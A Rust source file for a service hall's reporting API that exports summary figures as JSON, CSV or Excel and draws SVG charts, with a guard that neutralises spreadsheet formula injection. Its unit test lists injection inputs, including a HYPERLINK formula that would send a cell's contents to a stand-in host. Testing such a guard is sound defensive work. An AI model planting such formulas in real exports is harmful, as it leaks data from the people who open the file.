//! `GET /api/reports/summary`: the hall's figures over a date range, grouped one way, as JSON,
//! CSV (UTF-8 with a BOM, so that Excel reads the Chinese) or an Excel workbook. Computed on a
//! read-only connection: a report never waits for, nor holds up, the hall's writes.

use axum::extract::State;
use axum::http::header;
use axum::response::{IntoResponse, Response};
use axum::Json;
use chrono::NaiveDate;
use hall_wire as wire;
use serde::Deserialize;

use super::extract::{Caller, Query};
use super::AppState;
use crate::domain::report::{self, By, Format, Totals};
use crate::domain::Outcome;
use crate::error::{ApiError, ApiResult, Code};
use crate::hall::Hall;
use crate::ops::access::{self, Need};
use crate::store;

/// Query of `GET /api/reports/summary`.
#[derive(Deserialize, utoipa::IntoParams)]
pub struct SummaryQuery {
    /// First day, `YYYY-MM-DD`.
    from: String,
    /// Last day, inclusive (at most 366 days after `from`).
    to: String,
    /// `hall` (default), `window`, `staff`, `matter`, `queue` or `hour`.
    by: Option<String>,
    /// `json` (default), `csv` or `xlsx`.
    format: Option<String>,
    /// The column headings of CSV and Excel: `zh` (default) or `en`.
    lang: Option<String>,
}

fn date(v: &str) -> ApiResult<NaiveDate> {
    NaiveDate::parse_from_str(v, "%Y-%m-%d").map_err(|_| ApiError::new(Code::InvalidDate, "dates are YYYY-MM-DD"))
}

#[utoipa::path(
    get, path = "/api/reports/summary", params(SummaryQuery), security(("bearer" = [])),
    responses(
        (status = 200, description = "JSON `ReportSummary`; with format=csv `text/csv` (UTF-8, BOM); with format=xlsx an Excel workbook",
            body = wire::ReportSummary),
        (status = 400, body = wire::ErrorBody), (status = 401, body = wire::ErrorBody),
        (status = 403, body = wire::ErrorBody), (status = 422, body = wire::ErrorBody))
)]
/// The hall's figures for a date range: issued, served, no-show, transferred; waiting and service
/// minutes (mean, median, 90th percentile); cases by kind, on time and overdue; satisfaction.
pub async fn summary(
    State(s): State<AppState>,
    Caller(actor): Caller,
    Query(q): Query<SummaryQuery>,
) -> ApiResult<Response> {
    access::allow(&actor, Need::Oversight)?;
    let (from, to) = range(&q.from, &q.to)?;
    let unknown = |what: &str| ApiError::new(Code::InvalidBody, format!("unknown {what}"));
    let by = match q.by.as_deref() {
        None => By::Hall,
        Some(b) => By::parse(b).ok_or_else(|| unknown("by; use hall, window, staff, matter, queue or hour"))?,
    };
    let format = match q.format.as_deref() {
        None => Format::Json,
        Some(f) => Format::parse(f).ok_or_else(|| unknown("format; use json, csv or xlsx"))?,
    };
    let english = match q.lang.as_deref() {
        None | Some("zh") => false,
        Some("en") => true,
        Some(_) => return Err(unknown("lang; use zh or en")),
    };
    let (hall, facts, names) = load(&s, from, to).await?;
    let (groups, total) = report::summarize(&facts, by);
    let mut lines: Vec<wire::ReportLine> = groups.iter().map(|(k, t)| line(&hall, by, k, t)).collect();
    if by == By::Staff {
        for l in &mut lines {
            l.label = names.of(&hall, &l.key);
        }
    }
    if by == By::Window {
        lines.sort_by_key(|l| hall.window(&l.key).map(|w| w.number).unwrap_or(u32::MAX));
    }
    let summary = wire::ReportSummary {
        hall_name: hall.name.clone(),
        from: from.to_string(),
        to: to.to_string(),
        by: by.into(),
        lines,
        total: line(&hall, By::Hall, "hall", &total),
    };
    let name = format!("report-{}-{from}-{to}", by.as_str());
    match format {
        Format::Json => Ok(Json(summary).into_response()),
        Format::Csv => {
            let body = csv(&summary, english).map_err(ApiError::Internal)?;
            Ok(download(body, "text/csv; charset=utf-8", &format!("{name}.csv")))
        }
        Format::Xlsx => {
            let body = xlsx(&summary, english).map_err(ApiError::Internal)?;
            Ok(download(
                body,
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                &format!("{name}.xlsx"),
            ))
        }
    }
}

fn range(from: &str, to: &str) -> ApiResult<(NaiveDate, NaiveDate)> {
    let (from, to) = (date(from)?, date(to)?);
    if from > to || (to - from).num_days() > 366 {
        return Err(ApiError::new(Code::InvalidDate, "from is on or before to, at most a year apart"));
    }
    Ok((from, to))
}

/// The hall in force and every ticket of the range, read on a read-only connection.
/// The hall in force, the range's facts and the names of accounts removed from the hall since
/// (a past range's staff are named as they were).
type Loaded = (std::sync::Arc<Hall>, Vec<report::Fact>, store::attendance::StaffNames);

async fn load(s: &AppState, from: NaiveDate, to: NaiveDate) -> ApiResult<Loaded> {
    let hall = s.hall();
    let today = crate::domain::numbering::local_day(s.now(), hall.timezone);
    let read = hall.clone();
    let (facts, former) = s
        .reads()
        .run_long(move |c| {
            Ok((store::reports::facts(c, &read, from, to, today)?, store::attendance::StaffNames::read(c)?))
        })
        .await
        .map_err(ApiError::Internal)?;
    Ok((hall, facts, former))
}

/// Query of `GET /api/reports/chart/{kind}`.
#[derive(Deserialize, utoipa::IntoParams)]
pub struct ChartQuery {
    /// First day, `YYYY-MM-DD`.
    from: String,
    /// Last day, inclusive.
    to: String,
    /// The chart's words: `zh` (default) or `en`.
    lang: Option<String>,
}

/// The charts `GET /api/reports/chart/{kind}` draws.
const CHARTS: [&str; 5] = ["arrivals", "waits", "service", "satisfaction", "trend"];

#[utoipa::path(
    get, path = "/api/reports/chart/{kind}", params(("kind" = String, Path,
        description = "`arrivals` (tickets by hour issued), `waits` (the waiting-time distribution), `service` (mean service minutes per matter), `satisfaction` (per window), `trend` (tickets per day)"),
        ChartQuery),
    security(("bearer" = [])),
    responses((status = 200, description = "an SVG image", content_type = "image/svg+xml"),
        (status = 400, body = wire::ErrorBody), (status = 401, body = wire::ErrorBody), (status = 403, body = wire::ErrorBody),
        (status = 404, body = wire::ErrorBody), (status = 422, body = wire::ErrorBody))
)]
/// One of the reports' charts for a date range, as SVG.
pub async fn chart(
    State(s): State<AppState>,
    Caller(actor): Caller,
    super::extract::PathParam(kind): super::extract::PathParam,
    Query(q): Query<ChartQuery>,
) -> ApiResult<Response> {
    access::allow(&actor, Need::Oversight)?;
    let (from, to) = range(&q.from, &q.to)?;
    let en = match q.lang.as_deref() {
        None | Some("zh") => false,
        Some("en") => true,
        Some(_) => return Err(ApiError::new(Code::InvalidBody, "unknown lang; use zh or en")),
    };
    if !CHARTS.contains(&kind.as_str()) {
        return Err(ApiError::new(
            Code::NotFound,
            "no such chart; use arrivals, waits, service, satisfaction or trend",
        ));
    }
    let (hall, facts, _) = load(&s, from, to).await?;
    let svg = draw(&kind, &hall, &facts, from, to, en)
        .map_err(|e| ApiError::internal(anyhow::anyhow!("chart {kind}: {e}")))?;
    Ok(([(header::CONTENT_TYPE, "image/svg+xml"), (header::CACHE_CONTROL, "private, no-store")], svg).into_response())
}

/// Draws one chart of the range's facts.
fn draw(
    kind: &str,
    hall: &Hall,
    facts: &[report::Fact],
    from: NaiveDate,
    to: NaiveDate,
    en: bool,
) -> Result<String, String> {
    let words = |zh: &'static str, english: &'static str| if en { english } else { zh };
    let title = |zh: &'static str, english: &'static str| format!("{} {from} – {to}", words(zh, english));
    let groups = |by: By| report::summarize(facts, by).0;
    match kind {
        "arrivals" => {
            let bars: Vec<(String, f64)> =
                groups(By::Hour).into_iter().map(|(k, t)| (format!("{k}:00"), f64::from(t.issued))).collect();
            crate::charts::columns(&title("各时段取号", "Tickets by hour issued"), words("张", "tickets"), &bars)
        }
        "waits" => {
            let bins = report::wait_distribution(facts);
            let bars: Vec<(String, f64)> = bins
                .iter()
                .enumerate()
                .map(|(i, n)| {
                    let lower = if i == 0 { 0 } else { report::WAIT_BINS[i - 1] };
                    let label = match report::WAIT_BINS.get(i) {
                        Some(upper) => format!("{lower}–{upper}"),
                        None => format!("≥{lower}"),
                    };
                    (label, f64::from(*n))
                })
                .collect();
            crate::charts::columns(
                &title("等候时间分布（分钟）", "Waiting time (minutes)"),
                words("人次", "citizens"),
                &bars,
            )
        }
        "service" => {
            let rows: Vec<(String, f64)> = groups(By::Matter)
                .into_iter()
                .filter_map(|(k, t)| {
                    let (mean, _, _) = report::spread(&t.services)?;
                    Some((label(hall, By::Matter, &k), (mean * 10.0).round() / 10.0))
                })
                .collect();
            crate::charts::bars(
                &title("各事项平均办理时间", "Mean service time per matter"),
                words("分钟", "minutes"),
                &rows,
                None,
            )
        }
        "satisfaction" => {
            let mut rows: Vec<(u32, String, f64)> = groups(By::Window)
                .into_iter()
                .filter_map(|(k, t)| {
                    let rate = crate::domain::rating::satisfaction(t.levels)?;
                    let number = hall.window(&k).map(|w| w.number).unwrap_or(u32::MAX);
                    Some((number, label(hall, By::Window, &k), (rate * 1000.0).round() / 10.0))
                })
                .collect();
            rows.sort_by_key(|r| r.0);
            let rows: Vec<(String, f64)> = rows.into_iter().map(|(_, l, v)| (l, v)).collect();
            crate::charts::bars(&title("各窗口满意率", "Satisfaction per window"), "%", &rows, Some(100.0))
        }
        _ => {
            let days = report::issued_per_day(facts, from, to);
            crate::charts::trend(&title("每日取号", "Tickets per day"), words("张", "tickets"), &days)
        }
    }
}

fn download(body: Vec<u8>, kind: &'static str, file: &str) -> Response {
    let disposition = format!("attachment; filename=\"{file}\"");
    ([(header::CONTENT_TYPE, kind.to_string()), (header::CONTENT_DISPOSITION, disposition)], body).into_response()
}

fn label(hall: &Hall, by: By, key: &str) -> String {
    match by {
        By::Hall => hall.name.clone(),
        By::Window => hall.window(key).map(|w| format!("{}号 {}", w.number, w.name)).unwrap_or_else(|| key.into()),
        By::Staff => hall.staff(key).map(|p| p.name.clone()).unwrap_or_else(|| key.into()),
        By::Matter => hall.matter(key).map(|m| m.name.clone()).unwrap_or_else(|| key.into()),
        By::Queue => hall.queues.iter().find(|q| q.id == key).map(|q| q.name.clone()).unwrap_or_else(|| key.into()),
        By::Hour => format!("{key}:00–{key}:59"),
    }
}

fn minutes(values: &[f64]) -> Option<wire::Minutes> {
    let round = |x: f64| (x * 10.0).round() / 10.0;
    report::spread(values).map(|(mean, median, p90)| wire::Minutes {
        count: values.len() as u32,
        mean: round(mean),
        median: round(median),
        p90: round(p90),
    })
}

fn line(hall: &Hall, by: By, key: &str, t: &Totals) -> wire::ReportLine {
    let issuing = report::counts_issuing(by);
    let kind = |k: Outcome| t.kinds[Outcome::ALL.iter().position(|x| *x == k).expect("listed")];
    wire::ReportLine {
        key: key.to_string(),
        label: label(hall, by, key),
        issued: issuing.then_some(t.issued),
        served: t.served,
        no_show: (by != By::Staff).then_some(t.no_show),
        transferred: Some(t.transferred),
        wait: minutes(&t.waits),
        service: minutes(&t.services),
        cases: wire::CaseKinds {
            immediate: kind(Outcome::Immediate),
            promised: kind(Outcome::Promised),
            supplement: kind(Outcome::Supplement),
            returned: kind(Outcome::Returned),
            joint: kind(Outcome::Joint),
            reported: kind(Outcome::Reported),
        },
        immediate_over_limit: t.immediate_over_limit,
        closed_on_time: t.closed_on_time,
        closed_late: t.closed_late,
        overdue_open: t.overdue_open,
        rated: t.levels.iter().sum(),
        satisfaction: crate::domain::rating::satisfaction(t.levels),
    }
}

/// The columns of CSV and Excel: (Chinese, English).
const COLUMNS: [(&str, &str); 24] = [
    ("分组", "Group"),
    ("名称", "Name"),
    ("取号", "Issued"),
    ("办结", "Served"),
    ("未到", "No-show"),
    ("转办", "Transferred"),
    ("平均等候(分钟)", "Mean wait (min)"),
    ("等候中位数(分钟)", "Median wait (min)"),
    ("等候90%(分钟)", "90th pct wait (min)"),
    ("平均办理(分钟)", "Mean service (min)"),
    ("办理中位数(分钟)", "Median service (min)"),
    ("办理90%(分钟)", "90th pct service (min)"),
    ("即办件", "Immediate"),
    ("承诺件", "Promised"),
    ("补办件", "Supplement"),
    ("退回件", "Returned"),
    ("联办件", "Joint"),
    ("上报件", "Reported"),
    ("按时办结", "Closed on time"),
    ("超期办结", "Closed late"),
    ("超期未结", "Overdue open"),
    ("评价数", "Rated"),
    ("满意率", "Satisfaction"),
    ("即办超时", "Immediate over time"),
];

/// The satisfaction's column (a percentage in the workbook).
const SATISFACTION_COLUMN: usize = 22;

/// A cell: a number, text, or nothing known ("—" is left empty, never a made-up zero).
enum Cell {
    Text(String),
    Number(f64),
    Unknown,
}

fn cells(l: &wire::ReportLine) -> Vec<Cell> {
    let n = |v: u32| Cell::Number(f64::from(v));
    let opt = |v: Option<u32>| v.map_or(Cell::Unknown, |v| Cell::Number(f64::from(v)));
    let m = |v: &Option<wire::Minutes>, f: fn(&wire::Minutes) -> f64| {
        v.as_ref().map_or(Cell::Unknown, |x| Cell::Number(f(x)))
    };
    vec![
        Cell::Text(l.key.clone()),
        Cell::Text(l.label.clone()),
        opt(l.issued),
        n(l.served),
        opt(l.no_show),
        opt(l.transferred),
        m(&l.wait, |x| x.mean),
        m(&l.wait, |x| x.median),
        m(&l.wait, |x| x.p90),
        m(&l.service, |x| x.mean),
        m(&l.service, |x| x.median),
        m(&l.service, |x| x.p90),
        n(l.cases.immediate),
        n(l.cases.promised),
        n(l.cases.supplement),
        n(l.cases.returned),
        n(l.cases.joint),
        n(l.cases.reported),
        n(l.closed_on_time),
        n(l.closed_late),
        n(l.overdue_open),
        n(l.rated),
        l.satisfaction.map_or(Cell::Unknown, Cell::Number),
        // Added last: a sheet read by column position keeps its columns.
        n(l.immediate_over_limit),
    ]
}

/// The lines, then the total; by `hall` the one line is the total itself (as the page shows it):
/// written twice, a sum of the column in a spreadsheet would double every figure.
fn rows(s: &wire::ReportSummary) -> impl Iterator<Item = &wire::ReportLine> {
    lines(s).iter().chain(std::iter::once(&s.total))
}

fn lines(s: &wire::ReportSummary) -> &[wire::ReportLine] {
    if s.by == wire::ReportBy::Hall {
        &[]
    } else {
        &s.lines
    }
}

/// A name from the configuration as a spreadsheet's text: one starting like a formula (`=`,
/// `+`, `-`, `@`, a tab or a line break: a matter named `=HYPERLINK(…)` on /admin) is quoted
/// so that Excel or WPS shows it instead of running it.
fn as_text(t: String) -> String {
    if t.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
        format!("'{t}")
    } else {
        t
    }
}

fn csv(s: &wire::ReportSummary, english: bool) -> anyhow::Result<Vec<u8>> {
    let mut out = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    out.write_record(COLUMNS.iter().map(|(zh, en)| if english { *en } else { *zh }))?;
    for (i, l) in rows(s).enumerate() {
        let mut record: Vec<String> = cells(l)
            .into_iter()
            .map(|c| match c {
                Cell::Text(t) => as_text(t),
                Cell::Number(x) => x.to_string(),
                Cell::Unknown => String::new(),
            })
            .collect();
        if i == lines(s).len() {
            record[0] = if english { "total" } else { "合计" }.into();
        }
        out.write_record(&record)?;
    }
    Ok(out.into_inner()?)
}

fn xlsx(s: &wire::ReportSummary, english: bool) -> anyhow::Result<Vec<u8>> {
    use rust_xlsxwriter::{Format as Style, Workbook};
    let mut book = Workbook::new();
    let bold = Style::new().set_bold();
    let percent = Style::new().set_num_format("0.0%");
    let sheet = book.add_worksheet();
    sheet.set_name(if english { "Summary" } else { "汇总" })?;
    for (c, (zh, en)) in COLUMNS.iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, if english { *en } else { *zh }, &bold)?;
    }
    for (r, l) in rows(s).enumerate() {
        let row = r as u32 + 1;
        for (c, cell) in cells(l).into_iter().enumerate() {
            let col = c as u16;
            match cell {
                Cell::Text(t) => {
                    let t = if r == lines(s).len() && c == 0 {
                        (if english { "total" } else { "合计" }).into()
                    } else {
                        t
                    };
                    sheet.write_string(row, col, t)?;
                }
                Cell::Number(x) if c == SATISFACTION_COLUMN => {
                    sheet.write_number_with_format(row, col, x, &percent)?;
                }
                Cell::Number(x) => {
                    sheet.write_number(row, col, x)?;
                }
                Cell::Unknown => {}
            }
        }
    }
    sheet.set_column_width(1, 24)?;
    let about = book.add_worksheet();
    about.set_name(if english { "About" } else { "说明" })?;
    let by = serde_json::to_value(s.by)?.as_str().unwrap_or_default().to_string();
    let facts = [
        (if english { "Hall" } else { "大厅" }, s.hall_name.clone()),
        (if english { "From" } else { "起始日期" }, s.from.clone()),
        (if english { "To" } else { "截止日期" }, s.to.clone()),
        (if english { "Grouped by" } else { "分组" }, by),
    ];
    for (r, (k, v)) in facts.iter().enumerate() {
        about.write_string_with_format(r as u32, 0, *k, &bold)?;
        about.write_string(r as u32, 1, v)?;
    }
    about.set_column_width(0, 14)?;
    Ok(book.save_to_buffer()?)
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_name_that_reads_as_a_formula_is_written_as_text() {
        for (name, written) in [
            ("=HYPERLINK(\"http://x/?\"&A1,\"点此\")", "'=HYPERLINK(\"http://x/?\"&A1,\"点此\")"),
            ("+86 窗口", "'+86 窗口"),
            ("-1号", "'-1号"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("1号 综合受理窗口", "1号 综合受理窗口"),
            ("最低生活保障申请", "最低生活保障申请"),
        ] {
            assert_eq!(super::as_text(name.to_string()), written);
        }
    }

    #[test]
    fn the_workbooks_percentage_is_the_satisfactions_column() {
        assert_eq!(super::COLUMNS[super::SATISFACTION_COLUMN], ("满意率", "Satisfaction"));
    }
}
